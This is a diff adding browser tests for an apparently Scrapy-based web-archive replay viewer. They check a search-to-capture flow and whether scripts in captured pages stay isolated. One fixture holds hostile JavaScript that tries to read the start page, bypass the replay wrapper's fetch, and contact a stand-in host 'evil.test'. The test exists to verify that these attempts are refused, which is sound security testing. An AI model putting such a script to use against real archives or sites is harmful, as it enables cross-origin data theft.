@@ -1,0 +1,132 @@
+"""`scrapy replay` in a browser: from a search to a capture, and what captured scripts can reach."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import BrowserContext, Frame, Page, Request, sync_playwright
+
+from tests.harness.replay_server import ReplayServer, replay_server
+from tests.harness.warc_making import gz, record, response, warcinfo
+from tests.viewer.conftest import Archive
+
+#: Milliseconds.
+_PATIENCE = 90_000
+_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
+
+
+@contextmanager
+def browser(server: ReplayServer) -> Iterator[tuple[BrowserContext, list[str]]]:
+    """A browser, and the origins that it has asked."""
+    chromium = shutil.which("chromium")
+    if chromium is None:
+        pytest.skip("chromium is not installed: `make test` installs it")
+    asked: list[str] = []
+
+    def note(request: Request) -> None:
+        parts = urlsplit(request.url)
+        if parts.scheme in ("http", "https", "ws", "wss"):
+            asked.append(f"{parts.scheme}://{parts.netloc}")
+
+    with sync_playwright() as playwright:
+        running = playwright.chromium.launch(executable_path=chromium, args=_FLAGS)
+        try:
+            context = running.new_context(viewport={"width": 390, "height": 800})
+            context.set_default_timeout(_PATIENCE)
+            context.on("request", note)
+            yield context, asked
+        finally:
+            running.close()
+
+
+def replayed(page: Page, url: str) -> Frame:
+    """The frame in which the player shows a capture."""
+    for _ in range(_PATIENCE // 100):
+        for frame in page.frames:
+            if "mp_/" in frame.url and frame.url.endswith(url.partition("://")[2]):
+                frame.wait_for_load_state("load")
+                return frame
+        page.wait_for_timeout(100)
+    raise AssertionError(f"{url} is not replayed: {[frame.url for frame in page.frames]}")
+
+
+def test_from_a_search_to_the_capture_of_version_1(archive: Archive) -> None:
+    changed = archive.lines("headline")[0]
+    first = next(line for line in archive.lines("new") if line["id"] == changed["id"])
+    bare = re.sub(r"\W+", " ", str(changed["url"]).rpartition("/")[2]).split()
+    with replay_server(data=archive.data) as server, browser(server) as (context, asked):
+        player, _ = server.player()
+        page = context.new_page()
+        page.goto(server.address)
+        page.keyboard.press("Tab")
+        assert page.evaluate("document.activeElement.textContent") == "To the content"
+        page.fill("#q", " ".join(word for word in bare[:-2] if word.isalpha())[:60])
+        page.press("#q", "Enter")
+        page.locator(".entry h3 a", has_text=str(changed["title"])).first.click()
+        page.wait_for_url("**/article/**")
+        second = page.locator("#version-2")
+        assert second.locator("ins").first.is_visible()
+        assert str(first["title"]) in page.locator("#version-2 .changes").first.inner_text()
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it fits on a phone"
+        page.locator("#version-1").get_by_text("replay version 1").click()
+        text = replayed(page, str(changed["url"])).inner_text("body")
+        assert str(first["title"]) in text
+        assert str(changed["title"]) not in text
+        page.go_back()
+        page.get_by_text("All pages in the player").click()
+        page.get_by_text("Page List").first.wait_for()
+        assert {*asked} <= {server.address, player}
+
+
+def test_captured_scripts_reach_neither_the_start_page_nor_the_world(tmp_path: Path) -> None:
+    with replay_server(_hostile(tmp_path, "http://127.0.0.1:9")) as server:
+        origin = server.address
+        server.end()
+    port = urlsplit(origin).port or 0
+    with replay_server(_hostile(tmp_path, origin), "--port", str(port)) as server, browser(server) as (context, asked):
+        assert server.address == origin
+        player, key = server.player()
+        page = context.new_page()
+        page.goto(f"{player}/?source=/archive-{key}.json#view=pages&url=http%3A%2F%2Fa.test%2F&ts=20261122030405")
+        frame = replayed(page, "http://a.test/")
+        frame.wait_for_function("() => document.title.startsWith('done')")
+        said = frame.evaluate("document.title")
+        assert "News archive" not in said
+        assert "reached" not in said
+        # What was asked of the start page's origin, if anything, was refused.
+        assert {*asked} <= {player, origin, "http://evil.test"}
+        assert server.end() == 0
+
+
+def _hostile(folder: Path, origin: str) -> Path:
+    """A capture that tries to read the start page, and to send what it knows to somebody."""
+    script = f"""
+        const tries = ["{origin}/", "{origin}/search?q=a", "http://evil.test/"];
+        const outcomes = [];
+        const framed = document.createElement("iframe");
+        framed.src = "{origin}/";
+        document.body.append(framed);
+        for (const url of tries) {{
+            try {{
+                const answer = await fetch(url);
+                outcomes.push(answer.ok ? "reached " + (await answer.text()).slice(0, 200) : "status " + answer.status);
+            }} catch (error) {{ outcomes.push("refused"); }}
+            try {{
+                const real = window.__WB_source || window;
+                const answer = await real.fetch.call(window, url, {{mode: "no-cors"}});
+                outcomes.push(answer.type);
+            }} catch (error) {{ outcomes.push("refused"); }}
+        }}
+        document.title = "done " + outcomes.join(", ");
+    """
+    markup = f"<title>Bẫy</title><body><p>Chợ phiên<script>(async () => {{{script}}})()</script>".encode()
+    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
+    path = folder / "hostile.warc.gz"
+    path.write_bytes(gz(warcinfo(), record("response", response(markup, head), warc_target_uri="http://a.test/")))
+    return path
